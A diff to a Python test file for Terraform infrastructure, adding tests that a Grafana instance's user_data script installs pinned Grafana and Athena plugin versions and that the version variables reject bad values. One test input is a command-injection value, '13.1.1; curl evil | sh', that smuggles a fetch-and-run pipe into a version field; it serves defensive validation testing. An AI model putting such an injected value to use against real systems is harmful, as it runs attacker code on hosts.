@@ -394,3 +394,49 @@ def test_crawler_trust_refuses_another_accounts_glue():
     assert not allows_assume(policy, "glue.amazonaws.com", {"aws:SourceAccount": "999999999999"})
     # A Glue call without the key still works (the condition is ...IfExists on purpose).
     assert allows_assume(policy, "glue.amazonaws.com", {})
+
+
+# -- item 12: Grafana and its Athena plugin are pinned --------------------------------------------
+
+
+def _rendered_user_data(tmp_path, variables: dict):
+    """user_data.sh.tftpl rendered by Terraform itself, with the variables from variables.tf."""
+    import re
+
+    script = (TF / "grafana/user_data.sh.tftpl").read_text()
+    call = res("aws_instance", "grafana")["user_data_base64"]
+    passed = dict(re.findall(r"(\w+)\s*=\s*var\.(\w+)", call))
+    assert passed == {
+        "grafana_version": "grafana_version",
+        "athena_plugin_version": "athena_plugin_version",
+    }
+    names = sorted(set(re.findall(r"(?<!\$)\$\{(\w+)\}", script)))
+    args = ", ".join(f"{n} = var.{n}" if n in passed else f'{n} = "<{n}>"' for n in names)
+    files = {
+        "variables.tf": (TF / "variables.tf").read_text(),
+        "user_data.sh.tftpl": script,
+        "render.tf": (
+            f'output "script" {{\n  value = templatefile("user_data.sh.tftpl", {{ {args} }})\n}}\n'
+        ),
+    }
+    done = terraform_plan(tmp_path, files, REQUIRED_VARS | variables)
+    return done
+
+
+def test_user_data_installs_the_pinned_versions(tmp_path):
+    done = _rendered_user_data(tmp_path, {})
+    assert done.returncode == 0, done.text
+    defaults = tf()["variable"]
+    grafana = defaults["grafana_version"]["default"]
+    plugin = defaults["athena_plugin_version"]["default"]
+    assert f'dnf install -y "grafana-{grafana}"' in done.text, done.text
+    assert f'plugins install grafana-athena-datasource "{plugin}"' in done.text, done.text
+    other = _rendered_user_data(tmp_path / "b", {"grafana_version": "12.0.2"})
+    assert other.returncode == 0 and 'dnf install -y "grafana-12.0.2"' in other.text
+
+
+@pytest.mark.parametrize("name", ["grafana_version", "athena_plugin_version"])
+@pytest.mark.parametrize("value", ["latest", "13.1", "13.1.1; curl evil | sh", ""])
+def test_versions_must_be_release_numbers(tmp_path, name, value):
+    done = variables_only(tmp_path, {name: value})
+    assert done.returncode != 0 and f"{name} must be a release number" in done.text, done.text
